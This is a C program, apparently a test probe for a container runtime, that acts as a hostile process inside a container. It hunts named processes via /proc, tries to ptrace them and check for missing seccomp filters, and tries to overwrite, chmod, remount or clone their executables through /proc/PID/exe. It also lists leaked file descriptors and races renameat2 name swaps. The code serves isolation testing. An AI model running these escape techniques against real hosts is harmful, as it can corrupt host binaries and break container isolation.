// What a hostile program inside a container does: `attack NAME [ARGUMENT…]`. Each attack prints a line for whatever it
// achieves, in capitals, and what it saw on the way, in lower case.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int text(const char *path, char *into, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = read(fd, into, size - 1);
  close(fd);
  if (n < 0) return -1;
  into[n] = 0;
  return 0;
}

// The container's own program: writing it proves nothing.
static int harmless(const struct stat *st) {
  struct stat own;
  const char *programs[] = {"/bin/busybox", "/attack"};
  for (int i = 0; i < 2; i++)
    if (stat(programs[i], &own) == 0 && own.st_dev == st->st_dev && own.st_ino == st->st_ino) return 1;
  return 0;
}

// Opens the program of a foreign process, for writing if that works, else to try again when the process is gone.
static void take_program(int pid) {
  char path[64];
  struct stat st;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  if (fstat(fd, &st) == 0 && !harmless(&st)) {
    printf("reached program\n");
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 200; i++) {
      int writable = open(again, O_WRONLY | O_CLOEXEC);
      if (writable >= 0 && write(writable, "owned", 5) == 5) printf("OVERWRITTEN\n");
      if (writable >= 0) close(writable);
      if (writable >= 0 || errno != ETXTBSY) break;
      usleep(100);
    }
    if (chmod(again, 0777) == 0) printf("CHANGED MODE\n");
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0) printf("MADE WRITABLE\n");
    if (syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE) >= 0) printf("CLONED\n");
  }
  close(fd);
}

static int is_called(int pid, const char *name) {
  char path[64], comm[64];
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  if (text(path, comm, sizeof comm) != 0) return 0;
  comm[strcspn(comm, "\n")] = 0;
  return strcmp(comm, name) == 0;
}

// Opens what a foreign process has open; not what the container's own program that it becomes has, and not the standard
// streams of PID 1, which are the container's.
static void take_descriptors(int pid, const char *name) {
  char path[96], target[PATH_MAX];
  for (int n = pid == 1 ? 3 : 0; n < 12; n++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0) continue;
    target[length] = 0;
    if (is_called(pid, name)) printf("DESCRIPTOR %d %s\n", n, target);
  }
}

static void trace(int pid) {
  int status;
  char path[64], about[8192];
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) waitpid(pid, &status, 0);
  int known = text(path, about, sizeof about) == 0;
  const char *filter = known ? strstr(about, "Seccomp:\t") : 0;
  if (filter && filter[9] == '0') printf("TRACED UNFILTERED\n");
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

// Goes for every process whose name is NAME until /tmp/stop exists.
static int hunt(const char *name) {
  long seen = 0;
  while (access("/tmp/stop", F_OK) != 0) {
    DIR *proc = opendir("/proc");
    if (!proc) return 1;
    struct dirent *entry;
    while ((entry = readdir(proc))) {
      int pid = atoi(entry->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      if (!is_called(pid, name)) continue;
      seen++;
      trace(pid);
      take_program(pid);
      take_descriptors(pid, name);
    }
    closedir(proc);
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("saw %ld\n", seen);
  return 0;
}

// Exchanges two names for ever.
static int swap(const char *a, const char *b) {
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) return perror("attack: swap"), 1;
}

// The descriptors that this program was started with.
static int descriptors(void) {
  for (int n = 0; n < 1024; n++)
    if (fcntl(n, F_GETFD) >= 0) printf("%d ", n);
  printf("\n");
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, 0, _IOLBF, 0);
  if (argc == 3 && strcmp(argv[1], "hunt") == 0) return hunt(argv[2]);
  if (argc == 4 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3]);
  if (argc == 2 && strcmp(argv[1], "descriptors") == 0) return descriptors();
  fprintf(stderr, "attack: unknown\n");
  return 2;
}
